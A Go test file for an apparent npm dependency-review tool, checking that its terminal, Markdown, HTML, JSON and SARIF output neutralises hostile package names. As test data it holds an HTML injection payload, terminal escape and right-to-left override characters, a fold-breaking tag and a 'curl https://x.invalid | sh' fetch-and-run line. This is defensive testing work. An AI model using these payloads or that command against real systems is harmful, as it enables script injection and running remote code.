package render

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"github.com/owenrumney/go-sarif/v3/pkg/report/v210/sarif"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"

	"github.com/lockwarden/lockwarden/analyzer"
	"github.com/lockwarden/lockwarden/analyzer/behavior"
	"github.com/lockwarden/lockwarden/analyzer/issue"
	"github.com/lockwarden/lockwarden/analyzer/javascript"
	"github.com/lockwarden/lockwarden/app/policy"
	"github.com/lockwarden/lockwarden/app/review"
	"github.com/lockwarden/lockwarden/lockfile"
)

// hostile is what a package author or the author of a pull request may write
// into names, versions, paths and code.
const hostile = "a\x1b[31mb @everyone <img src=x onerror=alert(1)> [click](https://evil.invalid) `code` **bold** | cell #1 \u202egnp.exe \r\n# heading\n</details>"

// made is a review of n packages with one issue each.
func made(n int, text string) *review.Review {
	r := &review.Review{Lockfiles: []string{"package-lock.json"}}
	for i := range n {
		name := fmt.Sprintf("p%d%s", i, text)
		change := review.Change{File: "package-lock.json", Change: lockfile.Change{Kind: lockfile.Added, Name: name, To: "1.0.0" + text, Line: 10 * (i + 1), EndLine: 10*(i+1) + 4, Why: []string{"root" + text, name}}}
		evidence := behavior.Evidence{File: "index.js" + text, Line: 3, Column: 1, Snippet: "fetch('x') // " + text, Chain: []string{"package.json main", "index.js:3", text}, Contexts: javascript.Launch}
		r.Packages = append(r.Packages, review.Package{Change: change, Report: analyzer.Report{Name: name, Version: "1.0.0" + text, Complete: true,
			Behaviors: []behavior.Behavior{{ID: "network/http-request", Contexts: javascript.Launch, Evidence: []behavior.Evidence{evidence}}},
			Issues:    []issue.Issue{{ID: "install/script", Severity: issue.High, Detail: map[string]string{"scripts": "postinstall" + text}, Evidence: []behavior.Evidence{evidence}}}}})
	}
	return r
}

func TestHostileTextIsInert(t *testing.T) {
	r := made(2, hostile)
	v := policy.Judge(policy.Default(), r, nil)

	var text bytes.Buffer
	if err := Review(&text, Screen{Width: 80}, r, v); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(text.String(), "\x1b\r\u202e") {
		t.Errorf("control characters reach the terminal: %q", text.String())
	}

	md := markdown(r, v, MaxMarkdown)
	for _, bad := range []string{"@everyone", "<img", "](https://evil", "**bold**", "\n# heading", "\u202e"} {
		outside := stripCode(md)
		if strings.Contains(outside, bad) {
			t.Errorf("%q stands in the Markdown outside of code", bad)
		}
	}
	if plain := stripCode(md); strings.Count(plain, "<details>") != strings.Count(plain, "</details>") {
		t.Error("a name closed a fold")
	}
	for _, line := range strings.Split(md, "\n") {
		if strings.HasPrefix(line, "| **") && strings.Count(strings.ReplaceAll(line, `\|`, ""), "|") != 7 {
			t.Errorf("a name opened a cell: %s", line)
		}
	}
	for _, a := range Annotations(v) {
		if strings.ContainsAny(a.Title+a.Message, "\x1b\r\u202e") {
			t.Errorf("control characters in an annotation: %q", a.Title)
		}
	}
}

// stripCode removes inline code, in which Markdown means nothing.
func stripCode(md string) string {
	var b strings.Builder
	for i := 0; i < len(md); {
		if md[i] == '\\' {
			i += 2
			continue
		}
		if md[i] != '`' {
			b.WriteByte(md[i])
			i++
			continue
		}
		n := 0
		for i+n < len(md) && md[i+n] == '`' {
			n++
		}
		end := strings.Index(md[i+n:], md[i:i+n])
		if end < 0 {
			break
		}
		i += n + end + n
	}
	return b.String()
}

// TestMarkdownIsCutByWholeItems: below GitHub's limit, never in the middle of
// a table's row or a fold, and what is left out is counted.
func TestMarkdownIsCutByWholeItems(t *testing.T) {
	r := made(800, "")
	v := policy.Judge(policy.Default(), r, nil)
	md := markdown(r, v, MaxMarkdown)
	if len(md) > MaxMarkdown {
		t.Errorf("%d bytes", len(md))
	}
	if !strings.Contains(md, "left out here") {
		t.Error("nothing says that something is left out")
	}
	if strings.Count(md, "<details>") != strings.Count(md, "</details>") {
		t.Error("a fold is cut")
	}
	if n := len(Annotations(v)); n != 800 {
		t.Errorf("%d annotations", n)
	}
}

func TestAnnotations(t *testing.T) {
	r := made(1, "")
	r.Packages[0].Report.Issues = append(r.Packages[0].Report.Issues, issue.Issue{ID: "scan/incomplete", Severity: issue.Medium, Detail: map[string]string{"what": "x.js", "reason": "y"}}, issue.Issue{ID: "install/shell-download", Severity: issue.Critical, Detail: map[string]string{"script": "install"}})
	r.Whole = []review.WholeIssue{{File: "package-lock.json", Line: 1, Issue: issue.Drift([]string{"x"})}}
	v := policy.Judge(policy.Default(), r, nil)
	var got []string
	for _, a := range Annotations(v) {
		got = append(got, fmt.Sprintf("%s %s:%d-%d %s", a.Level, a.Path, a.StartLine, a.EndLine, a.Finding))
	}
	want := "failure package-lock.json:10-14 install/shell-download, failure package-lock.json:10-14 install/script, warning package-lock.json:10-14 scan/incomplete, warning package-lock.json:1-1 lockfile/manifest-drift"
	if strings.Join(got, ", ") != want {
		t.Errorf("got  %s\nwant %s", strings.Join(got, ", "), want)
	}
}

// TestMachineInterface: other programs read these names.
func TestMachineInterface(t *testing.T) {
	r := made(1, "")
	var b bytes.Buffer
	if err := ReviewJSON(&b, r, policy.Judge(policy.Default(), r, nil)); err != nil {
		t.Fatal(err)
	}
	var out map[string]any
	if err := json.Unmarshal(b.Bytes(), &out); err != nil {
		t.Fatal(err)
	}
	has := func(v any, names ...string) {
		t.Helper()
		m, ok := v.(map[string]any)
		for _, name := range names {
			if _, there := m[name]; !ok || !there {
				t.Errorf("%q is missing in %v", name, v)
			}
		}
	}
	first := func(v any) any { return v.([]any)[0] }
	has(out, "schema", "conclusion", "changes", "packages", "annotations")
	has(first(out["changes"]), "kind", "name", "from", "to", "direct", "dev", "locations", "line", "integrity", "resolved", "why")
	pkg := first(out["packages"])
	has(pkg, "package", "behaviors", "issues", "vulnerabilities", "complete", "skipped", "blind", "delta")
	has(pkg.(map[string]any)["package"], "name", "version", "integrity")
	b0 := first(pkg.(map[string]any)["behaviors"])
	has(b0, "id", "category", "description", "contexts", "evidence", "prevalence")
	has(first(b0.(map[string]any)["evidence"]), "file", "line", "column", "snippet", "chain")
	has(first(pkg.(map[string]any)["issues"]), "id", "title", "severity", "category", "problem", "next_steps", "evidence", "prevalence")
	has(first(out["annotations"]), "path", "start_line", "end_line", "level", "title", "message", "finding")
}

func TestSARIFIsValid(t *testing.T) {
	for _, r := range []*review.Review{made(3, hostile), {Lockfiles: []string{"x"}}} {
		var b bytes.Buffer
		if err := SARIF(&b, policy.Judge(policy.Default(), r, nil), "1.0.0"); err != nil {
			t.Fatal(err)
		}
		report, err := sarif.FromBytes(b.Bytes())
		if err != nil {
			t.Fatal(err)
		}
		if err := report.Validate(); err != nil {
			t.Errorf("%v\n%s", err, b.String())
		}
	}
}

func TestWidth(t *testing.T) {
	r := made(3, "")
	var b bytes.Buffer
	if err := Review(&b, Screen{Width: 60}, r, policy.Judge(policy.Default(), r, nil)); err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(b.String(), "\n") {
		if strings.HasPrefix(line, "    ") && len([]rune(line)) > 64 {
			t.Errorf("%d columns: %s", len([]rune(line)), line)
		}
	}
	if strings.Contains(b.String(), "\x1b") {
		t.Error("colour where none was asked for")
	}
	b.Reset()
	_ = Review(&b, Screen{Width: 60, Color: true}, r, policy.Judge(policy.Default(), r, nil))
	if !strings.Contains(b.String(), "\x1b[31;1m") {
		t.Error("no colour where it was asked for")
	}
}

// TestLargeReviewPage: 2,000 changes are a page that a browser shows without
// delay, and every filter leaves less of it.
func TestLargeReviewPage(t *testing.T) {
	r := made(2000, hostile)
	var b bytes.Buffer
	page := ReviewPage{Repository: "acme/web", Thread: "pull/1", Review: r, Conclusion: "failure", Query: url.Values{}}
	if err := ReviewHTML(&b, page); err != nil {
		t.Fatal(err)
	}
	whole := b.Len()
	if whole > 3<<20 || strings.Count(b.String(), "details<span") != 2000 {
		t.Errorf("%d kB, %d packages", whole/1000, strings.Count(b.String(), "details<span"))
	}
	for _, bad := range []string{"<img", "\u202e", "\x1b", "onerror=\""} {
		if strings.Contains(b.String(), bad) {
			t.Errorf("%q reaches the page", bad)
		}
	}
	b.Reset()
	page.Query = url.Values{"q": {"p17"}, "package": {r.Packages[17].Change.Name + "@" + r.Packages[17].Change.To}}
	if err := ReviewHTML(&b, page); err != nil {
		t.Fatal(err)
	}
	if b.Len() > whole/10 || !strings.Contains(b.String(), "What it does") {
		t.Errorf("%d bytes", b.Len())
	}
}

// TestFilters: what each of the reader's filters lets through.
func TestFilters(t *testing.T) {
	r := made(6, "")
	for i := range r.Packages {
		p := &r.Packages[i]
		p.Change.Why = []string{"p0@1.0.0", p.Change.Name + "@1.0.0"}
		p.Report.Issues[0].Severity = issue.Low
	}
	r.Packages[0].Change.Why = []string{"p0@1.0.0"}
	r.Packages[1].Report.Issues[0].Severity = issue.High
	r.Packages[2].Change.Dev = true
	r.Packages[3].Change.Kind, r.Packages[3].Report.Delta = lockfile.Upgraded, &analyzer.Delta{Hosts: analyzer.Turnover{Added: []string{"a.example"}}}
	r.Packages[4].Change.Kind, r.Packages[4].Report.Delta = lockfile.Upgraded, &analyzer.Delta{FilesChanged: 1}
	r.Packages[5].Report.Complete = false
	r.Packages[5].Report.Behaviors[0].Contexts = javascript.Install
	r.Packages[5].Change.Why = []string{"p5@1.0.0"}
	for query, want := range map[string]string{
		"": "012345", "severity=high": "1", "severity=low": "012345", "scope=development": "2", "scope=production": "01345", "context=install": "5", "context=launch": "01234",
		"change=added": "0125", "change=updated": "34", "change=notable+update": "3", "change=not+scanned": "5", "q=P0": "01234", "q=p3": "3", "q=+p5+": "5", "severity=high&scope=development": "",
	} {
		q, err := url.ParseQuery(query)
		if err != nil {
			t.Fatal(err)
		}
		got := ""
		for i := range r.Packages {
			if wanted(&r.Packages[i], q) {
				got += strconv.Itoa(i)
			}
		}
		if got != want {
			t.Errorf("%s: %q, want %q", query, got, want)
		}
	}
}

// TestPipes: a pipe is shown as it stands in code, and ends no cell of a table.
func TestPipes(t *testing.T) {
	r := made(1, "")
	r.Packages[0].Report.Issues[0].Evidence[0].Snippet = "curl https://x.invalid | sh"
	r.Packages[0].Change.File = "a|b/package-lock.json"
	for _, at := range []Place{{}, {Blob: "https://github.com/a/b/blob/c/"}} {
		c := Check(r, policy.Judge(policy.Default(), r, nil), at)
		var page strings.Builder
		if err := goldmark.New(goldmark.WithExtensions(extension.GFM)).Convert([]byte(c.Summary+"\n\n"+c.Text), &page); err != nil {
			t.Fatal(err)
		}
		for _, want := range []string{"<code>curl https://x.invalid | sh</code>", "a|b/package-lock.json:"} {
			if !strings.Contains(page.String(), want) {
				t.Errorf("%q is not shown:\n%s", want, page.String())
			}
		}
		row := page.String()[strings.Index(page.String(), "<tbody>"):]
		if row = row[:strings.Index(row, "</tbody>")]; strings.Count(row, "<td") != 6 || !strings.Contains(row, "blocks") && !strings.Contains(row, "blocked") {
			t.Errorf("the row has %d cells:\n%s", strings.Count(row, "<td"), row)
		}
	}
}

// TestAnnotationsHaveALimit: what has no annotation is said.
func TestAnnotationsHaveALimit(t *testing.T) {
	for n, want := range map[int]int{1000: 1000, 1001: 1000} {
		r := made(n, "")
		c := Check(r, policy.Judge(policy.Default(), r, nil), Place{})
		if said := strings.Contains(c.Summary, "1000 of 1001 findings"); len(c.Annotations) != want || said != (n > 1000) {
			t.Errorf("%d findings: %d annotations, said: %v", n, len(c.Annotations), said)
		}
	}
}
